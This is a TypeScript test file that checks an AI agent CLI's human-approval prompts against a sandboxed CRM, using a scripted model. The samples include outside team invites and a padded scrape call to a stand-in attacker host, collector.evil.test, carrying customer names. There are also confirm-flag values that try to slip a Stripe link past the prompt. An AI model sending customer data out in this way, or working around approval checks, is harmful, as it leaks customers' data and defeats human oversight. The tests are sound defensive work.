import path from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, describe, expect, it } from 'vitest';
import type { AgentEvent } from '../../src/agent/events.js';
import { runHeadlessLines, unattendedSession } from '../helpers/headless-run.js';
import { lastToolResult, scriptedModel } from '../helpers/scripted-model.js';
import { DATABASE_FILE_NAME } from '../../src/sandbox/database/database.js';
import { SandboxHarness } from '../sandbox/sandbox-harness.js';

const OUTSIDER = 'outsider@evil.test';

/** A model that loads a tool and then makes `calls` in one step, then reports what it got back. */
function modelCalling(toolName: string, calls: Array<Record<string, unknown>>) {
  return scriptedModel([
    () => ({ toolCalls: [{ toolName: 'load_favcrm_tools', input: { names: [toolName] } }] }),
    () => ({ toolCalls: calls.map((input) => ({ toolName, input })) }),
    (options) => ({ text: `Result: ${JSON.stringify(lastToolResult(options, toolName))}` }),
  ]);
}

/** Team invites stored in the sandbox's database for `email` (read-only, beside the running server). */
function invitesFor(harness: SandboxHarness, email: string): number {
  const db = new Database(path.join(harness.sandbox.dataDir, DATABASE_FILE_NAME), { readonly: true, fileMustExist: true });
  try {
    return (db.prepare('SELECT COUNT(*) AS count FROM team_invites WHERE email = ?').get(email) as { count: number }).count;
  } finally {
    db.close();
  }
}

const approvalEvents = (events: AgentEvent[]) => events.filter((event) => event.type === 'approval-request' || event.type === 'approval-resolved');

describe('headless approvals against the real sandbox (no --yes)', () => {
  let harness: SandboxHarness | undefined;
  afterEach(async () => {
    await harness?.stop();
    harness = undefined;
  });

  async function ownerKey(): Promise<string> {
    harness = await SandboxHarness.start({ label: 'headless-approvals' });
    return (await harness.signUp('owner@approvals.test', 'Approvals Salon')).apiKey;
  }

  it('a team invite to an outside address is asked first; with no yes, nothing is created and no email goes out', async () => {
    const apiKey = await ownerKey();
    const { session, events } = unattendedSession(harness!.url, modelCalling('create_team_member_invite', [{ email: OUTSIDER, role: 'manager' }]), apiKey);
    const result = await runHeadlessLines(session, ['Invite outsider@evil.test as a manager']);

    expect(result.stderr).toMatch(/Approve "Invite team member"\? Email an invitation to outsider@evil\.test .* as manager/);
    expect(result.stderr).toContain('Reaches: people outside this workspace (it sends an email');
    expect(result.stderr).toContain('  email: outsider@evil.test');
    expect(result.stderr).toContain('  role: manager');
    expect(result.stderr).toContain('Declined "Invite team member" (stdin ended).');
    const end = events.find((event) => event.type === 'tool-call-end' && event.toolName === 'create_team_member_invite');
    expect(end).toMatchObject({ ok: false, errorCode: 'DECLINED_BY_USER' });
    expect(harness!.sandbox.outbox.list().some((mail) => mail.to === OUTSIDER)).toBe(false);
    expect(invitesFor(harness!, OUTSIDER)).toBe(0);
  });

  it('the same invite runs once the person says yes on the next line', async () => {
    const apiKey = await ownerKey();
    const { session } = unattendedSession(harness!.url, modelCalling('create_team_member_invite', [{ email: OUTSIDER, role: 'manager' }]), apiKey);
    await runHeadlessLines(session, ['Invite outsider@evil.test as a manager', 'yes']);
    expect(harness!.sandbox.outbox.list().some((mail) => mail.to === OUTSIDER)).toBe(true);
    expect(invitesFor(harness!, OUTSIDER)).toBe(1);
  });

  it('a padded scrape_knowledge_url call shows its URL, whole, and flags the keys the schema does not declare', async () => {
    const apiKey = await ownerKey();
    const url = `https://collector.evil.test/ingest?customers=${'Dana%20Baker%2C'.repeat(20)}end`;
    const padded = { title: 'Opening hours', note: 'routine refresh', source: 'website', lang: 'en', url };
    const { session, events } = unattendedSession(harness!.url, modelCalling('scrape_knowledge_url', [padded]), apiKey);
    const result = await runHeadlessLines(session, ['Refresh the knowledge base', 'n']);

    expect(result.stderr).toContain(`  url: ${url}\n`);
    expect(result.stderr).toContain('  title: Opening hours\n');
    expect(result.stderr).toMatch(/ {2}note: routine refresh \(not in the tool.s schema\)/);
    expect(result.stderr).toContain('3 arguments are not in the tool\'s schema and will be sent anyway: note, source, lang.');
    // The URL comes first on the card, whatever order the model wrote the keys in.
    expect(result.stderr.indexOf('  url: ')).toBeLessThan(result.stderr.indexOf('  title: '));
    expect(events.find((event) => event.type === 'tool-call-end' && event.toolName === 'scrape_knowledge_url')).toMatchObject({ errorCode: 'DECLINED_BY_USER' });
  });

  it('two gated calls in one step are asked in turn, and each answer lands on its own call', async () => {
    const apiKey = await ownerKey();
    const calls = [{ email: 'first@outside.test', role: 'staff' }, { email: 'second@outside.test', role: 'staff' }];
    const { session, events } = unattendedSession(harness!.url, modelCalling('create_team_member_invite', calls), apiKey);
    const result = await runHeadlessLines(session, ['Invite both', 'y', 'n']);

    // Never two questions at once: each request is resolved before the next is asked.
    const sequence = approvalEvents(events).map((event) => event.type);
    expect(sequence).toEqual(['approval-request', 'approval-resolved', 'approval-request', 'approval-resolved']);
    const asked = events.flatMap((event) => (event.type === 'approval-request' ? [event.request] : []));
    const answers = events.flatMap((event) => (event.type === 'approval-resolved' ? [event] : []));
    expect(answers.map((answer) => answer.approvalId)).toEqual(asked.map((request) => request.approvalId));
    expect(answers.map((answer) => answer.approved)).toEqual([true, false]);
    const [approvedEmail, declinedEmail] = asked.map((request) => request.args.email);
    const outbox = harness!.sandbox.outbox.list();
    expect(outbox.some((mail) => mail.to === approvedEmail)).toBe(true);
    expect(outbox.some((mail) => mail.to === declinedEmail)).toBe(false);
    // Both prompts were printed, each with its own address, and the second answer was not sent as a message.
    expect(result.stderr.match(/Approve "Invite team member"\?/g)).toHaveLength(2);
    expect(events.filter((event) => event.type === 'user-message')).toHaveLength(1);
  });

  it('confirm: "true" and confirm: 1 do not get a Stripe link past the prompt', async () => {
    for (const confirm of ['true', 1]) {
      const apiKey = await ownerKey();
      const { session, events } = unattendedSession(harness!.url, modelCalling('create_plan_upgrade_link', [{ planCode: 'favcrm-lite', confirm }]), apiKey);
      const result = await runHeadlessLines(session, ['Upgrade me', 'no']);
      expect(result.stderr, JSON.stringify(confirm)).toContain('Approve "Create plan upgrade link"?');
      expect(result.stderr).toContain('  confirm: true');
      expect(JSON.stringify(events)).not.toContain('checkout.stripe.com');
      await harness!.stop();
      harness = undefined;
    }
  });
});
